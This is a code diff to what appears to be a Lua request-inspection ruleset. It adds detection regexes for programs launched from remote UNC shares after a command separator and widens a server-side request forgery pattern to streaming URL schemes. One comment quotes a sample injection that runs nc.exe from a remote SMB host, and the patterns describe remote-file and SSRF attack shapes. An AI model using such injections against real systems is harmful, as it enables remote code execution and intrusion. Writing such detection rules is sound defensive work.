@@ -340,6 +340,11 @@ local RE_UNC = [=[^\s*(?:\\\\(?:\.|\?\\globalroot)\\]=]
     .. [=[|\\\\(?:\d{1,3}(?:\.\d{1,3}){3}|\[?[0-9a-f]*:[0-9a-f:]+\]?|localhost]=]
     .. [=[|(?:[a-z0-9-]+\.)+(?!(?:local|lan|corp|internal|intranet|localdomain|ad|arpa)\b)]=]
     .. [=[[a-z]{2,24})(?:@\d+)?(?:\\|\s*$))]=]
+-- ... or a program run from a share at such a host after a separator
+-- ("x & \\\\198.51.100.5\\t\\nc.exe ..."): cmd.exe runs it over SMB
+local RE_UNC_RUN = [=[[;&|]\s*\\\\(?:\d{1,3}(?:\.\d{1,3}){3}|(?:[a-z0-9-]+\.)+]=]
+    .. [=[(?!(?:local|lan|corp|internal|intranet|localdomain|ad|arpa)\\)[a-z]{2,24})]=]
+    .. [=[(?:\\[^\s\\]+)+\.(?:exe|dll|bat|cmd|com|ps1|vbs|js|hta|scr|msi)\b]=]
 local RE_DATA_URI = [=[^\s*data:\s*[\w.+-]+/[\w.+-]+]=]
 -- ... but a raster picture ("data:image/png;base64,iVBORw0KGgo..."), an
 -- avatar's or a thumbnail's: base64 whose bytes start as the declared
@@ -497,7 +502,7 @@ local INTERNAL_HOSTS = alt({
 -- value, "127.0.0.1:6379", "10.1.2.3:22": what a host field hands a client
 -- to connect to; "0:30" is a time)
 local RE_SSRF = [=[^\s*(?:(?:https?|ftps?|s?ftp|scp|smb|telnet|gopher|dict|ldap|tftp|file]=]
-    .. [=[|webcals?):]=]
+    .. [=[|webcals?|rtmps?|rtsp|mms):]=]
     .. [=[(?://)?(?:[^/@\s]*@)?]=]
     .. INTERNAL_HOSTS .. [=[\.?(?:[:/?#\\]|$)|]=] .. INTERNAL_HOSTS .. [=[(?::\d+)?/]=]
     .. [=[|(?:(?!0:)]=] .. INTERNAL_HOSTS .. [=[|10(?:\.\d{1,3}){3}|192\.168(?:\.\d{1,3}){2}]=]
@@ -506,7 +511,8 @@ local RE_SSRF = [=[^\s*(?:(?:https?|ftps?|s?ftp|scp|smb|telnet|gopher|dict|ldap|
     .. [=[(?:(?:\.[a-z\d-]+)*\.(?:local|lan|home\.arpa))?\.?(?::\d{1,5})?(?:[/?#]|$))]=]
 
 -- (a URL a server-side fetcher follows, up to its host: the two below)
--- (webcal:// is a calendar's subscription: the server fetches it over HTTP)
+-- (webcal:// is a calendar's subscription: the server fetches it over HTTP;
+-- rtmp://, rtsp:// and mms:// a stream a media server pulls)
 local FETCHED_URL = [=[(?:https?|ftps?|gopher|dict|tftp|file|webcals?)://(?:[^/@\s]*@)?]=]
 
 -- ... or as a record's field at a line's start, the value glued to its
@@ -951,6 +957,8 @@ local RULES = rules.compile({
       needles = { "=//" }, pattern = RE_REDIRECT_PARAM },
     { id = "rfi-unc", where = NOT_PATH, names_not = REFERER,
       needles = { "\\\\", "//", "\\/", "/\\" }, pattern = RE_UNC, plain = false },
+    { id = "rfi-unc", where = NOT_PATH, names_not = REFERER, needles = { "\\\\" },
+      pattern = RE_UNC_RUN, plain = false },
     -- the data: URI needs a "/"
     { id = "rfi-data-uri", where = NOT_PATH, needles = { "data:" }, pattern = RE_DATA_URI,
       check = data_uri_runs, plain = false },
